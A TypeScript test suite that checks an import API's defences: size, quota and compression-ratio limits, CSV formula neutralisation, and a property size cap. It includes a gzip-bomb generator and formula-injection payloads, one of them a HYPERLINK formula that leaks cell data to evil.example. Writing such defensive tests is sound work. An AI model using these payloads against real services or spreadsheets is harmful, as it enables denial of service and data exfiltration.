import { randomUUID } from 'node:crypto';
import { mkdtemp, readdir, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { createGzip, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createPool } from '@tally/postgres';
import { analyticsTenant, ndjson, todayStart, upload, waitFor } from './analytics-helpers.ts';
import { checkBalance, meteringTenant, subscribedCustomer, usageTotals } from './metering-helpers.ts';
import { opsHeaders } from './support/ops.ts';
import { startApp, type AppProcess } from './support/processes.ts';
import { client, config, eventually, newTenant } from './support/stack.ts';

/**
 * Security findings on imports and exports: uploads that would exhaust the
 * API's memory or disk are refused with a 413 naming the limit and leave
 * nothing behind; the rejected-rows CSV cannot carry a live formula; one
 * 8 KiB cap on properties for every path that stores them.
 */
const db = createPool(config.DATABASE_URL, 2);
afterAll(() => db.end());

const importStates = async (tenantId: string) =>
  (await db.query<{ state: string }>(`SELECT state FROM imports WHERE tenant_id = $1 ORDER BY created_at`, [tenantId])).rows.map((r) => r.state);

const ts = () => new Date(todayStart() - 3_600_000).toISOString();
/** ~100 bytes of NDJSON per line, every line different. */
const lines = (count: number, prefix = randomUUID().slice(0, 8)) =>
  Array.from({ length: count }, (_, i) => JSON.stringify({ id: `${prefix}-${i}`, customer: 'c1', feature: 'gpt4', value: i % 9, timestamp: ts() })).join('\n') + '\n';

/** A gzip bomb: `decompressed` bytes of one repeated line, compressed as it is generated (never held whole). */
async function gzipBomb(decompressed: number): Promise<Buffer> {
  const line = Buffer.from(`${JSON.stringify({ customer: 'c1', feature: 'gpt4', value: 1, timestamp: ts() })}\n`);
  const block = Buffer.concat(Array.from({ length: Math.ceil((1 << 20) / line.length) }, () => line));
  const gz = createGzip({ level: 9 });
  const out: Buffer[] = [];
  gz.on('data', (b: Buffer) => out.push(b));
  const done = new Promise((resolve) => gz.on('end', resolve));
  for (let written = 0; written < decompressed; written += block.length) {
    if (!gz.write(block)) await new Promise((resolve) => gz.once('drain', resolve));
  }
  gz.end();
  await done;
  return Buffer.concat(out);
}

const MiB = 1 << 20;

/** POST /v1/imports: the import's status (202) or the error envelope. */
interface UploadAnswer {
  id: string;
  state: string;
  chunksTotal: number | null;
  bytes: number;
  error?: { code: string; message: string; limit?: string; max?: number };
}

describe('import limits (an API of its own: small quota and size cap, a queue no worker reads)', () => {
  let api: AppProcess;
  let dataDir: string;
  const MAX_BYTES = 12 * MiB;
  const QUOTA = 16 * MiB;
  const spoolEntries = async () => readdir(path.join(dataDir, 'tally-imports')).catch(() => [] as string[]);
  const post = (secret: string, body: string | Uint8Array, query = '', headers: Record<string, string> = {}) =>
    fetch(`${api.url}/v1/imports${query}`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${secret}`, 'Content-Type': 'application/x-ndjson', ...headers },
      body,
    }).then(async (res) => ({ status: res.status, body: (await res.json()) as UploadAnswer }));
  const metric = async (name: string) => {
    const text = await (await fetch(`${api.url}/metrics`, { headers: opsHeaders })).text();
    const line = text.split('\n').find((l) => l.startsWith(`${name} `));
    return line === undefined ? undefined : Number(line.split(' ')[1]);
  };

  beforeAll(async () => {
    dataDir = await mkdtemp(path.join(os.tmpdir(), 'tally-security-imports-'));
    api = await startApp('api', {
      ...inject('stackEnv'),
      TALLY_DATA_DIR: dataDir,
      // uploads stay queued: their spool stays on disk and counts toward the tenant's quota
      IMPORT_QUEUE: `security-${randomUUID().slice(0, 8)}`,
      IMPORT_MAX_BYTES: String(MAX_BYTES),
      IMPORT_TENANT_SPOOL_QUOTA_BYTES: String(QUOTA),
    });
  });
  afterAll(async () => {
    await api?.stop();
    if (dataDir) await rm(dataDir, { recursive: true, force: true });
  });

  it('a gzip bomb (256 KiB unpacking to 256 MiB) is a 413 naming IMPORT_MAX_COMPRESSION_RATIO, and nothing is kept', async () => {
    const tenant = await newTenant('bomb');
    const bomb = await gzipBomb(256 * MiB);
    expect(bomb.length).toBeLessThan(1 * MiB);
    const before = await spoolEntries();
    const res = await post(tenant.apiKey.secret, bomb, '', { 'Content-Encoding': 'gzip' });
    expect(res.status, JSON.stringify(res.body)).toBe(413);
    expect(res.body.error).toMatchObject({ code: 'import_limit_exceeded', limit: 'IMPORT_MAX_COMPRESSION_RATIO', max: 100 });
    expect(res.body.error.message).toContain('IMPORT_MAX_COMPRESSION_RATIO');
    expect(await spoolEntries()).toEqual(before);
    expect(await importStates(tenant.tenantId)).toEqual([]);
    // the same answer for ?compression=gzip
    const again = await post(tenant.apiKey.secret, bomb, '?compression=gzip', { 'Content-Type': 'application/gzip' });
    expect(again.body.error?.limit).toBe('IMPORT_MAX_COMPRESSION_RATIO');
  });

  it('a 10 MB upload held as one chunk is spooled with a bounded buffer (the spool counts the most it held)', async () => {
    const tenant = await newTenant('big');
    const file = lines(110_000);
    expect(file.length).toBeGreaterThan(10_000_000);
    const res = await post(tenant.apiKey.secret, file, '?chunkLines=1000000');
    expect(res.status, JSON.stringify(res.body)).toBe(202);
    expect(res.body).toMatchObject({ state: 'queued', chunksTotal: 1, bytes: Buffer.byteLength(file) });
    // before: the whole chunk (10 MB) was one array of lines, then one string; now a line, a read piece and a 64 KiB buffer
    const peak = await metric('tally_import_spool_peak_buffer_chars');
    expect(peak).toBeGreaterThan(0);
    expect(peak).toBeLessThan(512 * 1024);
  });

  it("past the tenant's spool quota is a 413 naming IMPORT_TENANT_SPOOL_QUOTA_BYTES; other tenants are not affected", async () => {
    const tenant = await newTenant('quota');
    const first = await post(tenant.apiKey.secret, lines(100_000)); // ~10 MB, stays queued
    expect(first.status, JSON.stringify(first.body)).toBe(202);
    const before = await spoolEntries();
    const second = await post(tenant.apiKey.secret, lines(80_000)); // ~8 MB: together past 16 MiB
    expect(second.status, JSON.stringify(second.body)).toBe(413);
    expect(second.body.error).toMatchObject({ code: 'import_limit_exceeded', limit: 'IMPORT_TENANT_SPOOL_QUOTA_BYTES', max: QUOTA });
    expect(await spoolEntries()).toEqual(before);
    expect(await importStates(tenant.tenantId)).toEqual(['queued']);

    // another tenant's imports count for it alone
    const other = await newTenant('quota-other');
    expect((await post(other.apiKey.secret, lines(80_000))).status).toBe(202);
    // once the first import is cancelled and its spool removed, the tenant has room again
    expect((await client(tenant.apiKey.secret, api.url).post(`/v1/imports/${first.body.id}/cancel`)).status).toBe(200);
    await rm(path.join(dataDir, 'tally-imports', first.body.id), { recursive: true, force: true }); // what a worker does on its next chunk
    expect((await post(tenant.apiKey.secret, lines(80_000))).status).toBe(202);
  });

  it('an upload past IMPORT_MAX_BYTES is a 413 naming it, counted decompressed for gzip', async () => {
    const tenant = await newTenant('max-bytes');
    const file = lines(140_000); // ~14.5 MB, compresses well under the 100x ratio
    const gz = gzipSync(file);
    expect(file.length / gz.length).toBeLessThan(100);
    const before = await spoolEntries();
    const res = await post(tenant.apiKey.secret, gz, '', { 'Content-Encoding': 'gzip' });
    expect(res.status, JSON.stringify(res.body)).toBe(413);
    expect(res.body.error).toMatchObject({ code: 'import_limit_exceeded', limit: 'IMPORT_MAX_BYTES', max: MAX_BYTES });
    expect(res.body.error.message).toContain('once decompressed');
    expect(await spoolEntries()).toEqual(before);
    expect(await importStates(tenant.tenantId)).toEqual([]);
  });
});

describe('the rejected-rows CSV export neutralises formulas', () => {
  it('cells starting with = + - @ tab or CR come back prefixed with a single quote; the NDJSON export is unchanged', async () => {
    const { api, secret } = await analyticsTenant();
    const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
    const file = ndjson([{ id: `ok-${randomUUID()}`, customer: 'c1', feature: 'gpt4', value: 1, timestamp: ts() }, ...formulas]);
    const created = await upload(secret, file);
    expect(created.status, JSON.stringify(created.body)).toBe(202);
    await waitFor(api, created.body.id, ['completed']);

    const csv = await fetch(`${inject('apiUrl')}/v1/imports/${created.body.id}/rejected?format=csv`, { headers: { Authorization: `Bearer ${secret}` } });
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const records = (await csv.text()).trimEnd().split('\n');
    expect(records[0]).toBe('line,reason,content');
    // lines 2..7 of the file, each rejected as malformed JSON with its content kept
    const contents = records.slice(1).map((r) => {
      const m = /^(\d+),"((?:[^"]|"")*)","((?:[^"]|"")*)"$/.exec(r);
      expect(m, r).not.toBeNull();
      return { line: Number(m![1]), content: m![3]!.replaceAll('""', '"') };
    });
    expect(contents.map((c) => c.line)).toEqual([2, 3, 4, 5, 6, 7]);
    contents.forEach((c, i) => {
      expect(c.content.startsWith("'"), c.content).toBe(true);
      expect(c.content.slice(1)).toBe(formulas[i]!.replace('\r', ' '));
    });

    const raw = await api.get(`/v1/imports/${created.body.id}/rejected`);
    const rows = String(raw.body).trimEnd().split('\n').map((l) => JSON.parse(l) as { content: string });
    expect(rows.map((r) => r.content)).toEqual(formulas);
  });
});

describe('one cap on properties: 8 KiB of JSON wherever they are stored', () => {
  // {"p":"<text>"} is 8 bytes of JSON around the text
  const props = (bytes: number) => ({ p: 'x'.repeat(bytes - 8) });

  it('check with sendEvent: 500 KB is a 400 naming properties and debits nothing; exactly 8 KiB is stored', async () => {
    const { api, tenantId } = await meteringTenant(100);
    const customer = await subscribedCustomer(api);
    for (const size of [500_000, 8193]) {
      const res = await api.post('/v1/check', { customer, feature: 'gpt-4', sendEvent: true, properties: props(size) });
      expect(res.status, JSON.stringify(res.body).slice(0, 300)).toBe(400);
      expect(res.body.error.issues).toContainEqual({ path: 'properties', message: 'properties must be at most 8192 bytes of JSON' });
    }
    expect((await checkBalance(api, customer)).usage).toBe(0);

    const ok = await api.post('/v1/check', { customer, feature: 'gpt-4', sendEvent: true, properties: props(8192) });
    expect(ok.status, JSON.stringify(ok.body).slice(0, 300)).toBe(200);
    expect(ok.body).toMatchObject({ allowed: true, usage: 20 });
    await eventually(async () => (await usageTotals(tenantId, customer)).events === 1);
    // track says the same about the same properties
    const track = await api.post('/v1/track', { customer, feature: 'gpt-4', properties: props(8193) });
    expect(track.status).toBe(400);
    expect(track.body.error.issues).toContainEqual({ path: 'properties', message: 'properties must be at most 8192 bytes of JSON' });
  });

  it('imports: a line over 8 KiB of properties is rejected with the same rule; one at 8 KiB is kept', async () => {
    const { api, secret } = await analyticsTenant();
    const id = randomUUID().slice(0, 8);
    const file = ndjson([
      { id: `${id}-at`, customer: 'c1', feature: 'gpt4', value: 1, timestamp: ts(), properties: props(8192) },
      { id: `${id}-over`, customer: 'c1', feature: 'gpt4', value: 1, timestamp: ts(), properties: props(8193) },
      { id: `${id}-big`, customer: 'c1', feature: 'gpt4', value: 1, timestamp: ts(), properties: props(500_000) },
    ]);
    const created = await upload(secret, file);
    expect(created.status, JSON.stringify(created.body)).toBe(202);
    const done = await waitFor(api, created.body.id, ['completed']);
    expect(done).toMatchObject({ rowsRead: 3, accepted: 1, rejected: 2 });
    const rejected = String((await api.get(`/v1/imports/${created.body.id}/rejected`)).body).trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(rejected.map((r: { line: number; reason: string }) => [r.line, r.reason])).toEqual([
      [2, 'properties must be at most 8192 bytes of JSON'],
      [3, 'properties must be at most 8192 bytes of JSON'],
    ]);
  });
});
